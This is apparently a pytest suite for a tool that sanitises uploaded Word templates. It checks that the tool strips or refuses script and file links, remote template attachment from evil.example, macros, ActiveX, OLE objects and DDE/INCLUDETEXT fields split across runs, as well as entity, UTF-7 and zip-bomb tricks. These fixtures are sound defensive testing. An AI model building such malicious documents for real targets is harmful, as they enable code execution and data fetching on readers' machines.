"""What somebody's Word file may be and carry before the tool touches it."""

import re
import zipfile
from io import BytesIO

import docx
import pytest
from lxml import etree

from briefing.faults.errors import TemplateRefused
from briefing.ooxml.carried import MOST_TOLD
from briefing.ooxml.opened import LARGEST_FILE, LARGEST_TEXT, MOST_TAGS, open_document

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = f'xmlns:r="{OFFICE}"'


def plain(*paragraphs):
    """A Word file as Word makes it, with these paragraphs."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.core_properties.author = "Jo Bloggs"
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def changed(data, changes=(), parts=()):
    """The file with (part, old, new) replaced, and parts added."""
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for part, before, after in changes:
                if part == name:
                    assert before.encode() in content
                    content = content.replace(before.encode(), after.encode(), 1)
            new.writestr(name, content)
        for name, content in parts:
            new.writestr(name, content)
    return buffer.getvalue()


def linked(xml, kind, target, *, external=True, part="document", parts=()):
    """A file in whose part stands some XML that leads to something by the id rId90."""
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rId90" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    changes = [
        ("word/_rels/document.xml.rels", "</Relationships>", link),
        ("word/document.xml", "<w:body>", f"<w:body>{xml}"),
    ]
    if part == "settings":
        parts = [
            (
                "word/_rels/settings.xml.rels",
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}',
            )
        ]
        changes = [("word/settings.xml", "</w:settings>", f"{xml}</w:settings>")]
    return changed(plain("Our template"), changes, parts)


def refusal(data):
    with pytest.raises(TemplateRefused) as refused:
        open_document(data, "ours.docx")
    return str(refused.value)


def field(*codes):
    """A paragraph with a field whose code is cut into runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def in_run(tag):
    return f'<w:p><w:r><w:{tag} r:id="rId90"/></w:r></w:p>'


def in_body(xml):
    return changed(plain(), [("word/document.xml", "<w:body>", f"<w:body>{xml}")])


def words(data):
    return [one.text for one in docx.Document(BytesIO(data)).paragraphs]


def test_a_plain_file_is_opened_and_its_own_properties_are_left_behind():
    opened = open_document(plain("One", "Two"), "ours.docx")
    assert [one.text for one in opened.document.paragraphs] == ["One", "Two"]
    assert opened.taken_out == ("the properties of the file, such as its author and dates",)
    with zipfile.ZipFile(BytesIO(opened.to_bytes())) as archive:
        assert [name for name in archive.namelist() if name.startswith("docProps")] == []


def test_the_same_file_gives_the_same_bytes():
    assert open_document(plain("One"), "a").to_bytes() == open_document(plain("One"), "b").to_bytes()


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "file:///c:/secret.docx", r"\\server\share\x", "C:\\x.docx", "vbscript:x"]
)
def test_a_link_to_a_script_or_a_disk_is_taken_out_and_its_words_stay(target):
    link = '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>Our rules</w:t></w:r></w:hyperlink></w:p>'
    opened = open_document(linked(link, "hyperlink", target), "ours.docx")
    assert f"a link to {target} (paragraph 1)" in opened.taken_out
    assert words(opened.to_bytes())[0] == "Our rules"
    assert target.encode() not in b"".join(parts_of(opened.to_bytes()).values())


def parts_of(data):
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_link_to_a_page_stays():
    link = '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>Our rules</w:t></w:r></w:hyperlink></w:p>'
    opened = open_document(linked(link, "hyperlink", "https://council.example/rules"), "ours.docx")
    assert b"https://council.example/rules" in parts_of(opened.to_bytes())["word/_rels/document.xml.rels"]


def test_a_template_that_the_file_was_attached_to_is_taken_out():
    attached = '<w:attachedTemplate r:id="rId90"/>'.replace("r:id", f"{R} r:id")
    data = linked(attached, "attachedTemplate", "http://evil.example/t.dotm", part="settings")
    opened = open_document(data, "ours.docx")
    assert any(
        said.startswith("the template that it was attached to, http://evil.example/t.dotm") for said in opened.taken_out
    )
    assert b"attachedTemplate" not in b"".join(parts_of(opened.to_bytes()).values())


@pytest.mark.parametrize(
    ("xml", "kind", "external", "said"),
    [
        ('<w:altChunk r:id="rId90"/>', "aFChunk", False, "a file to be imported on opening"),
        (in_run("control"), "control", False, "a control of ActiveX (paragraph 1)"),
        (in_run("object"), "oleObject", False, "an embedded or linked object (paragraph 1)"),
        (in_run("object"), "oleObject", True, "an embedded or linked object (paragraph 1)"),
        (in_run("pict"), "image", True, "a picture that is fetched from elsewhere (paragraph 1)"),
        ('<w:subDoc r:id="rId90"/>', "subDocument", True, "another document to be fetched"),
        ("", "vbaProject", False, "macros"),
    ],
)
def test_what_runs_or_fetches_is_refused_with_its_place(xml, kind, external, said):
    data = linked(
        xml,
        kind,
        "http://evil.example/x" if external else "embeddings/x.bin",
        external=external,
        parts=[("word/embeddings/x.bin", b"x")],
    )
    assert said in refusal(data)


@pytest.mark.parametrize(
    ("codes", "said"),
    [
        ([' DDEAUTO c:\\\\x.exe "a" '], "a field DDEAUTO (paragraph 1)"),
        (["DD", "E excel x"], "a field DDE (paragraph 1)"),
        (['  "includetext" "http://evil.example"'], "a field INCLUDETEXT (paragraph 1)"),
        (["INCLUDEPICTURE http://evil.example/p.png"], "a field INCLUDEPICTURE (paragraph 1)"),
        (['HYPERLINK "javascript:alert(1)"'], "a field that leads to javascript:alert(1) (paragraph 1)"),
        (["HYPER", 'LINK \\h "file://server/x"'], "a field that leads to file://server/x (paragraph 1)"),
    ],
)
def test_a_field_that_fetches_something_is_refused_however_it_is_cut(codes, said):
    assert said in refusal(in_body(field(*codes)))
    simple = f'<w:p><w:fldSimple w:instr="{"".join(codes).replace(chr(34), "&quot;")}"/></w:p>'
    assert said in refusal(in_body(simple))


def test_the_fields_of_an_ordinary_template_stay():
    codes = [
        "PAGE",
        "NUMPAGES",
        'TOC \\o "1-2"',
        'HYPERLINK "https://council.example"',
        'HYPERLINK \\l "_Toc1"',
        "REF x \\h",
    ]
    data = in_body("".join(field(code) for code in codes))
    assert open_document(data, "ours.docx").to_bytes().count(b"PK") > 0


def test_everything_that_is_refused_is_named_at_once():
    data = in_body(field("DDE x") + "<w:p/>" + field("LINK y"))
    assert refusal(data) == (
        "ours.docx: This file carries what can harm its readers: a field DDE (paragraph 1); "
        "a field LINK (paragraph 3). Take it out in Word and save the file as 'Word Document (.docx)'."
    )


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/theme/theme9.xml", b"<a>" + b" " * 5000 + b"<!DOCTYPE x></a>"),
        ("customXml/item9.xml", '<!DOCTYPE x [<!ENTITY a "b">]><a/>'.encode("utf-16")),
        ("word/header9.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
    ],
)
def test_a_part_that_word_does_not_write_is_refused_wherever_its_document_type_stands(part, content):
    assert f"ours.docx, {part}: This part of the file was not written by Word." in refusal(
        changed(plain(), parts=[(part, content)])
    )


def test_a_file_that_unpacks_to_more_than_a_template_holds_is_refused_before_it_is_unpacked():
    pictures = [(f"word/media/{n}.png", bytes(LARGEST_FILE // 4 + 1)) for n in range(4)]
    assert "over 128 MiB" in refusal(changed(plain(), parts=pictures))
    text = [("word/footnotes.xml", b"<a>" + b" " * LARGEST_TEXT + b"</a>")]
    assert "16 MiB beside pictures" in refusal(changed(plain(), parts=text))


def test_a_link_to_a_part_that_is_not_there_does_no_harm():
    data = linked("<w:p><w:r><w:t>Kept</w:t></w:r></w:p>", "image", "../NULL", external=False)
    assert words(open_document(data, "ours.docx").to_bytes())[0] == "Kept"


def test_a_part_that_is_no_xml_is_refused():
    assert "A part of this Word file is broken" in refusal(
        changed(plain(), [("word/document.xml", "</w:body>", "</w:boddy>")])
    )
    assert re.search("broken|not a Word", refusal(changed(plain(), [("_rels/.rels", 'officeDocument"', 'nothing"')])))


def test_a_part_of_more_tags_than_a_template_has_is_refused_before_it_is_read():
    data = in_body("<w:p/>" * MOST_TAGS)
    assert f"word/document.xml: This part of the file has over {MOST_TAGS:,} tags." in refusal(data)


def test_what_stands_in_the_root_of_a_document_stays_and_word_may_ignore_the_newest_names():
    before = parts_of(plain("One"))["word/document.xml"]
    after = parts_of(open_document(plain("One"), "ours.docx").to_bytes())["word/document.xml"]
    root, old = etree.fromstring(after), etree.fromstring(before)
    ignored = "{http://schemas.openxmlformats.org/markup-compatibility/2006}Ignorable"
    assert set(root.get(ignored).split()) == {*(old.get(ignored) or "").split(), "w15"}
    assert old.nsmap.items() <= root.nsmap.items()
    assert root.nsmap["w15"] == "http://schemas.microsoft.com/office/word/2012/wordml"


def test_of_very_many_things_only_the_first_are_told_and_all_are_taken_out():
    links = "".join(
        f'<w:p><w:hyperlink r:id="q{n}"><w:r><w:t>Link {n}</w:t></w:r></w:hyperlink></w:p>' for n in range(300)
    )
    ends = "".join(
        f'<Relationship Id="q{n}" Type="{OFFICE}/hyperlink" Target="file:///c:/{n}" TargetMode="External"/>'
        for n in range(300)
    )
    rels = ("word/_rels/document.xml.rels", "</Relationships>", f"{ends}</Relationships>")
    opened = open_document(changed(plain(), [rels, ("word/document.xml", "<w:body>", f"<w:body>{links}")]), "ours.docx")
    assert len(opened.taken_out) == MOST_TOLD
    written = parts_of(opened.to_bytes())
    assert b"file:///" not in written["word/_rels/document.xml.rels"] + written["word/document.xml"]
    assert len(refusal(in_body(field("DDE x") * 300)).split("; ")) <= MOST_TOLD


def chained(parts):
    """A file with parts of which each leads to the next."""
    package = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    link = f'<Relationship Id="q" Type="{OFFICE}/customXml" Target="p{{}}.bin"/>'
    chain = [(f"word/p{n}.bin", b"x") for n in range(parts)]
    chain += [(f"word/_rels/p{n}.bin.rels", package.format(link.format(n + 1))) for n in range(parts - 1)]
    rels = ("word/_rels/document.xml.rels", "</Relationships>", f"{link.format(0)}</Relationships>")
    types = ("[Content_Types].xml", "<Override", '<Default Extension="bin" ContentType="application/x"/><Override')
    return changed(plain(), [rels, types], chain)


def test_parts_that_lead_from_one_to_the_next_without_end_are_refused():
    assert "over 800 parts" in refusal(chained(500))
    assert len(parts_of(open_document(chained(390), "ours.docx").to_bytes())) > 700
